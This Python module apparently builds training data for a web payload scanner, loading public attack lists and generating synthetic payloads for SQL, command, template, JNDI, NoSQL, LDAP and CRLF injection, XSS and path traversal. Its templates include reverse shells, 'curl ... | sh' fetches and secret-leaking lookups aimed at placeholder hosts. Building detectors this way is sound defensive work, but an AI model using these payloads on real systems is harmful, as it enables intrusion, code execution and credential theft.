"""Attack values for the payload scanner: public payload lists, the labelled sample, and
generated families for the styles the lists lack.

Sources (licences in ``NOTICE.md``):

- ``corpora/payloadsallthethings/*.txt.gz`` and ``corpora/seclists/*.txt.gz``: public
  attack lists, one payload per line, copied from ``shared/data/requests/corpora``;
- the labelled sample ``http_params_payloads.csv.gz`` (CSIC 2010 benign values and four
  attack classes);
- ``generated_attacks``: grammars for the attacks a real API sees that the lists hold few
  of (SQL without a quote, stacked queries, shell separators, CRLF log forging, JNDI and
  expression lookups, NoSQL operators, LDAP filters, template expressions), each template
  its own group so a split keeps it whole.

The lists are noisy: fragments that are harmless alone (``'``, ``or``, ``select``, ``%00``)
are dropped by ``is_fragment``, and placeholders (``__TIME__``, ``{file}``) are filled.
Every attack row carries its class (``CLASSES``), its source and a group key.
"""

from __future__ import annotations

import gzip
import random
import re
from collections.abc import Iterator
from pathlib import Path

__all__ = ["ATTACK_CLASSES", "CORPORA", "corpus_attacks", "generated_attacks", "is_fragment"]

HERE = Path(__file__).parent
CORPORA = HERE / "corpora"
# every class the scanner's head knows (benign is ``models.data.BENIGN``)
ATTACK_CLASSES = [
    "sqli",
    "xss",
    "path-traversal",
    "cmdi",
    "ssti",
    "jndi",
    "nosqli",
    "crlf",
    "ldapi",
]
_FILE_CLASS = {"log4shell-jndi": "jndi"}
_WORDS_ONLY = re.compile(r"^[a-z0-9 _\-.,]*$")


def is_fragment(value: str) -> bool:
    """A list line that is harmless on its own: too short, only symbols of one kind, or a
    few plain words (``or``, ``select``, ``admin``)."""
    from features.payload import normalise

    n = normalise(value)
    if len(n) < 4:
        return True
    if _WORDS_ONLY.match(n) and len(n.split()) <= 2:
        return True
    return len(set(n)) <= 2  # ``''''``, ``%%%%``


def _fill(value: str, r: random.Random) -> str:
    value = value.replace("__TIME__", str(r.randint(2, 30)))
    value = value.replace("{file}", r.choice(["etc/passwd", "etc/shadow", "windows/win.ini"]))
    return value.replace("[ATTACKER.DOMAIN.TLD]", r.choice(["evil.example", "x.attacker.io"]))


def corpus_attacks(root: Path = CORPORA) -> Iterator[tuple[str, str, str]]:
    """(value, class, source) for every useful line of the bundled lists."""
    r = random.Random(7)
    for path in sorted(root.glob("*/*.txt.gz")):
        stem = path.name.removesuffix(".txt.gz")
        cls = _FILE_CLASS.get(stem, stem)
        if cls not in ATTACK_CLASSES:
            raise ValueError(f"{path}: unknown attack class {cls!r}")
        source = path.parent.name
        with gzip.open(path, "rt", encoding="utf-8", errors="replace") as fh:
            for line in fh:
                v = _fill(line.rstrip("\n"), r)
                if v and not is_fragment(v):
                    yield v, cls, source


# --- generated families ------------------------------------------------------------------
_TABLES = ["users", "accounts", "orders", "customers", "admin", "members", "wp_users"]
_COLS = ["username", "password", "email", "passwd", "user", "pass", "secret", "token"]
_FILES = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "C:\\Windows\\win.ini"]
_HOSTS = ["evil.example", "198.51.100.7", "attacker.io", "x.oast.site", "10.0.0.66"]


def _sqli(r: random.Random) -> list[str]:
    t, c1, c2 = r.choice(_TABLES), r.choice(_COLS), r.choice(_COLS)
    n = r.randint(1, 9999)
    name = r.choice(["admin", "Name", "x", "test", "abc", "john"])
    return [
        f"{n} UNION SELECT {c1}, {c2} FROM {t}",
        f"{n} union all select null,{c1},null from {t}--",
        f"{n}; DROP TABLE {t}",
        f"{n}; DELETE FROM {t} WHERE 1=1",
        f"{n}; UPDATE {t} SET {c1}='x' WHERE id={n}",
        f"{n} AND 1=1",
        f"{n} OR 1=1",
        f"{n} OR {n}={n}",
        f"{n}) OR ({n}={n}",
        f"{n} AND SLEEP({r.randint(2, 9)})",
        f"{n} AND (SELECT COUNT(*) FROM {t}) > 0",
        f"{name}'--",
        f"{name}' #",
        f"{name}' or '{name}'='{name}",
        f'{name}" or "{name}"="{name}',
        f"{name}' or 1=1 limit 1 -- -",
        f"{name}' and substring(({c1}),1,1)='a",
        f"{n} ORDER BY {r.randint(1, 20)}--",
        f"{n} GROUP BY {c1} HAVING 1=1",
        f"{n} AND extractvalue(1,concat(0x7e,(select {c1} from {t} limit 1)))",
        f"-{n} UNION SELECT table_name FROM information_schema.tables",
        f"{n}' AND '1'='1",
        f"{n} WAITFOR DELAY '0:0:{r.randint(2, 9)}'",
        f"{n}; EXEC xp_cmdshell('whoami')",
        f"{n} AND 1=CAST((SELECT {c1} FROM {t}) AS int)",
        f"{n} OR pg_sleep({r.randint(2, 9)}) IS NULL",
        f" ORDER BY {r.randint(1, 40)}",
        f"{n} ORDER BY {r.randint(1, 40)} DESC--",
        f" HAVING {n}={n}",
        f"{name}' HAVING 1=1 --",
        f"{name}' GROUP BY {c1} HAVING 1=1--",
        f"{n}; WAITFOR DELAY '0:0:{r.randint(2, 9)}'--",
        f"{name}'; WAITFOR DELAY '00:00:0{r.randint(2, 9)}'--",
        f"DECLARE @x varchar(200) SELECT @x = 0x{r.getrandbits(64):016x} EXEC(@x)",
        "PRINT @@version",
        "SELECT @@version",
        f"{name}' OR 1 --",
        f"{name}' /*",
        f" or {n} between 1 and {n + 5}",
        f" or {n + 1} > {n}",
        f"{n}) AND ({n} LIKE {n}",
        f"{n} AND ELT({n}={n},{n})",
        f"1,(CASE WHEN {n}={n} THEN 1 ELSE NULL END)",
        f"{name}'||(SELECT {c1} FROM {t})||'",
        f"{name}'||UTL_HTTP.REQUEST('http://{r.choice(_HOSTS)}')||'",
        f"CREATE TABLE {t}_x ({c1} TEXT);",
        f"{n}; EXEC master..xp_cmdshell 'ping {r.choice(_HOSTS)}'--",
        f"UNI/**/ON SEL/**/ECT {c1} FROM {t}",
    ]


def _cmdi(r: random.Random) -> list[str]:
    prefix = r.choice(["", "127.0.0.1", "foo", "1", "test.txt", "example.com"])
    cmd = r.choice(
        [
            "whoami",
            "id",
            f"cat {r.choice(_FILES[:4])}",
            "ls -la /",
            "uname -a",
            f"curl http://{r.choice(_HOSTS)}/x.sh | sh",
            f"wget http://{r.choice(_HOSTS)}/a -O /tmp/a",
            f"nc -e /bin/sh {r.choice(_HOSTS)} 4444",
            f"ping -c {r.randint(1, 9)} {r.choice(_HOSTS)}",
            f"sleep {r.randint(2, 9)}",
            "powershell -enc SQBFAFgA",
            "type C:\\Windows\\win.ini",
            "/bin/bash -i",
            f"nslookup {r.choice(_HOSTS)}",
        ]
    )
    return [
        f"{prefix}; {cmd}",
        f"{prefix};{cmd}",
        f"{prefix} | {cmd}",
        f"{prefix}|{cmd}",
        f"{prefix} || {cmd}",
        f"{prefix} && {cmd}",
        f"{prefix} & {cmd}",
        f"{prefix}`{cmd}`",
        f"{prefix}$({cmd})",
        f"{prefix}\n{cmd}",
        f"{prefix}%0a{cmd}",
        f"() {{ :; }}; {cmd}",
        f"{prefix}';{cmd};'",
    ]


def _crlf(r: random.Random) -> list[str]:
    user = r.choice(["admin", "root", "guest", "alice"])
    ip = f"{r.randint(1, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
    nl = r.choice(["%0d%0a", "%0a", "\r\n", "\n", "%0D%0A", "%E5%98%8A%E5%98%8D", "%u000a"])
    v = r.choice(["x", "en", "1", "foo", "home"])
    return [
        f"{v}{nl}Set-Cookie: session={r.randint(1000, 99999)}",
        f"{v}{nl}Location: http://{r.choice(_HOSTS)}/",
        f"{v}{nl}{nl}<html>owned</html>",
        f"{v}{nl}X-Injected: 1",
        f'{user}{nl}{ip} - {user} [01/Jan/2026:00:00:00 +0000] "GET /admin HTTP/1.1" 200',
        f"{user}{nl}INFO: user {user} logged in successfully",
        f"{user}{nl}[{r.randint(2020, 2026)}-01-01] login success user={user}",
        f"{v}{nl}Content-Length: 0{nl}{nl}HTTP/1.1 200 OK",
    ]


def _jndi(r: random.Random) -> list[str]:
    h = r.choice(_HOSTS)
    proto = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http"])
    return [
        f"${{jndi:{proto}://{h}/a}}",
        f"${{jndi:{proto}://{h}:{r.randint(1000, 9999)}/Exploit}}",
        f"${{${{lower:j}}ndi:{proto}://{h}/x}}",
        f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{h}/x}}",
        f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{proto}://{h}/a}}",
        f"${{jndi:{proto}://${{env:USER}}.{h}/a}}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        f"${{sys:java.version}}.{h}",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
        f"${{url:UTF-8:http://{h}/}}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "${T(java.lang.Runtime).getRuntime().exec('whoami')}",
        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
        "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
        "${pageContext.request.getSession().setAttribute('a',1)}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    ]


def _nosqli(r: random.Random) -> list[str]:
    op = r.choice(["$ne", "$gt", "$gte", "$lt", "$regex", "$exists", "$nin", "$in"])
    f = r.choice(["username", "password", "email", "user", "token"])
    return [
        f'{{"{f}": {{"{op}": ""}}}}',
        f'{{"{op}": null}}',
        f'{{"{op}": 1}}',
        f"{f}[{op}]=1",
        f"[{op}]=",
        f'{{"$where": "sleep({r.randint(100, 5000)})"}}',
        "'; return true; var x='",
        f"'; return this.{f} == 'admin'; var d='",
        "true, $where: '1 == 1'",
        f'{{"{f}": {{"$regex": "^a.*"}}}}',
        '{"$or": [{}, {"a": "a"}]}',
        "db.getCollection('users').find()",
        "'||'1'=='1",
    ]


def _ldapi(r: random.Random) -> list[str]:
    a = r.choice(["uid", "cn", "mail", "sn", "objectClass", "userPassword"])
    u = r.choice(["admin", "*", "jsmith", "root"])
    return [
        f"*)({a}=*))(|({a}=*",
        f"{u})(&)",
        f"{u})(|({a}=*)",
        "*)(|(objectclass=*)",
        f"{u}*)(|(password=*)",
        f"{u})(!({a}=*))",
        f"*)({a}=*)(|(&",
        f"{u}))%00",
        f"(&({a}={u})(|(objectClass=*)))",
    ]


def _ssti(r: random.Random) -> list[str]:
    a, b = r.randint(2, 99), r.randint(2, 99)
    return [
        f"{{{{{a}*{b}}}}}",
        f"${{{a}*{b}}}",
        f"<%= {a}*{b} %>",
        f"#{{{a}*{b}}}",
        f"*{{{a}*{b}}}",
        f"{{{{{a}*'{b}'}}}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{self.__init__.__globals__.__builtins__}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "{php}echo `id`;{/php}",
        "{{lipsum.__globals__['os'].popen('whoami').read()}}",
        "${{<%[%'\"}}%\\.",
    ]


def _xss(r: random.Random) -> list[str]:
    f = r.choice(["alert", "confirm", "prompt", "print", "eval"])
    n = r.randint(0, 99)
    return [
        f"javascript:{f}({n})",
        f"JaVaScRiPt:{f}(document.domain)",
        f"java\tscript:{f}({n})",
        f"data:text/html,<script>{f}({n})</script>",
        f"data:text/html;base64,PHNjcmlwdD5hbGVydCh{n}pPC9zY3JpcHQ+",
        f'"><svg onload={f}({n})>',
        f"'><img src=x onerror={f}({n})>",
        f"<details open ontoggle={f}({n})>",
        f'" autofocus onfocus="{f}({n})',
        f"</title><script>{f}({n})</script>",
        f"<iframe srcdoc='<script>{f}({n})</script>'>",
        f"';{f}({n});//",
        f'\\";{f}({n});//',
    ]


def _traversal(r: random.Random) -> list[str]:
    f = r.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", ".env"])
    d = r.randint(2, 8)
    return [
        "../" * d + f,
        "..\\" * d + f.replace("/", "\\"),
        "..%2f" * d + f,
        "%2e%2e/" * d + f,
        "..%252f" * d + f,
        "....//" * d + f,
        "..;/" * d + f,
        f"/static/{'../' * d}{f}",
        f"file:///{f}",
        f"{'../' * d}{f}%00.png",
    ]


_GENERATORS = {
    "sqli": _sqli,
    "cmdi": _cmdi,
    "crlf": _crlf,
    "jndi": _jndi,
    "nosqli": _nosqli,
    "ldapi": _ldapi,
    "ssti": _ssti,
    "xss": _xss,
    "path-traversal": _traversal,
}


def generated_attacks(per_template: int = 15, seed: int = 0) -> Iterator[tuple[str, str, str]]:
    """(value, class, group) from the grammars above: ``per_template`` fillings of every
    template; the group is the class and template, so fillings never straddle a split."""
    r = random.Random(seed)
    for cls, gen in _GENERATORS.items():
        for _ in range(per_template):
            for i, v in enumerate(gen(r)):
                yield v, cls, f"gen:{cls}:{i}"
